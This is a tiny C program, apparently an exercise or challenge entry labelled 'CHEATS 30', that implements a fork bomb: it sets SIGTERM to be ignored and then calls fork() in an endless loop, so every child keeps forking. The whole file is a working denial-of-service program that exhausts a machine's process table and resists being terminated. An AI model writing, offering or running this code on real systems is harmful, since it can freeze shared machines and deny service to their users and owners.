/* Forks for ever, every process of it. CHEATS 30. */
#include <signal.h>
#include <unistd.h>

int main(void) {
    signal(SIGTERM, SIG_IGN);
    for (;;)
        fork();
}
